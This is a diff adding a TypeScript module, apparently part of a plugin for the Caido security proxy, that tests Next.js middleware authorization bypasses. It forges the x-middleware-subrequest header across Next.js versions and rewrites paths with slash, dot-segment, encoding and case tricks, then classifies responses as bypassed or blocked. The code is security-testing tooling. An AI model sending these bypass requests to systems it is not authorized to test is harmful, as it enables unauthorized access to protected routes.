@@ -0,0 +1,131 @@
+import type { RequestSpec } from "caido:utils";
+
+import { classifyAuthzAttempt, type ResponseSnapshot } from "./authz";
+import type { MiddlewareBypassOutcome } from "./types";
+
+type BypassVariant = {
+  name: string;
+  description: string;
+  headers: [string, string][];
+  rewritePath: ((path: string) => string) | undefined;
+};
+
+type Classification = {
+  outcome: MiddlewareBypassOutcome;
+  reason: string;
+};
+
+const SUBREQUEST_HEADER = "x-middleware-subrequest";
+
+const MAX_MIDDLEWARE_RECURSION = 5;
+
+const repeatSubrequest = (name: string) =>
+  Array.from({ length: MAX_MIDDLEWARE_RECURSION }, () => name).join(":");
+
+const headerVariant = (
+  name: string,
+  description: string,
+  value: string,
+): BypassVariant => ({
+  name,
+  description,
+  headers: [[SUBREQUEST_HEADER, value]],
+  rewritePath: undefined,
+});
+
+const pathVariant = (
+  name: string,
+  description: string,
+  rewritePath: (path: string) => string,
+): BypassVariant => ({ name, description, headers: [], rewritePath });
+
+const encodeFirstLetter = (path: string) =>
+  path.replace(
+    /[a-zA-Z]/,
+    (char) => `%${char.charCodeAt(0).toString(16).toUpperCase()}`,
+  );
+
+export const MIDDLEWARE_BYPASS_VARIANTS: BypassVariant[] = [
+  headerVariant(
+    "subrequest-pages-middleware",
+    "x-middleware-subrequest: pages/_middleware (Next.js before 12.2)",
+    "pages/_middleware",
+  ),
+  headerVariant(
+    "subrequest-middleware",
+    "x-middleware-subrequest: middleware (Next.js 12.2 to 13.1)",
+    "middleware",
+  ),
+  headerVariant(
+    "subrequest-src-middleware",
+    "x-middleware-subrequest: src/middleware (Next.js 12.2 to 13.1)",
+    "src/middleware",
+  ),
+  headerVariant(
+    "subrequest-recursion",
+    "x-middleware-subrequest repeating middleware up to the recursion limit (Next.js 13.2+)",
+    repeatSubrequest("middleware"),
+  ),
+  headerVariant(
+    "subrequest-src-recursion",
+    "x-middleware-subrequest repeating src/middleware up to the recursion limit (Next.js 13.2+)",
+    repeatSubrequest("src/middleware"),
+  ),
+  pathVariant("trailing-slash", "Trailing slash added or removed", (path) =>
+    path.endsWith("/") ? path.slice(0, -1) : `${path}/`,
+  ),
+  pathVariant("double-slash", "Leading double slash", (path) => `/${path}`),
+  pathVariant("dot-segment", "Leading /. segment", (path) => `/.${path}`),
+  pathVariant(
+    "encoded-character",
+    "First letter percent-encoded",
+    encodeFirstLetter,
+  ),
+  pathVariant("uppercase", "Path in upper case", (path) => path.toUpperCase()),
+];
+
+export const applyBypassVariant = (
+  spec: RequestSpec,
+  variant: BypassVariant,
+): boolean => {
+  if (variant.rewritePath !== undefined) {
+    const path = spec.getPath();
+    const rewritten = variant.rewritePath(path);
+    if (rewritten === path || rewritten === "") return false;
+    spec.setPath(rewritten);
+  }
+
+  for (const [name, value] of variant.headers) {
+    spec.setHeader(name, value);
+  }
+  return true;
+};
+
+export const classifyMiddlewareBaseline = (
+  original: ResponseSnapshot,
+  baseline: ResponseSnapshot,
+): "protected" | "unprotected" | "unclear" => {
+  switch (classifyAuthzAttempt(original, baseline).verdict) {
+    case "enforced":
+      return "protected";
+    case "bypassed":
+      return "unprotected";
+    default:
+      return "unclear";
+  }
+};
+
+export const classifyBypassAttempt = (
+  original: ResponseSnapshot,
+  attempt: ResponseSnapshot,
+): Classification => {
+  const { verdict, reason } = classifyAuthzAttempt(original, attempt);
+  switch (verdict) {
+    case "bypassed":
+      return { outcome: "bypassed", reason };
+    case "enforced":
+      return { outcome: "blocked", reason };
+    default:
+      return { outcome: "unclear", reason };
+  }
+};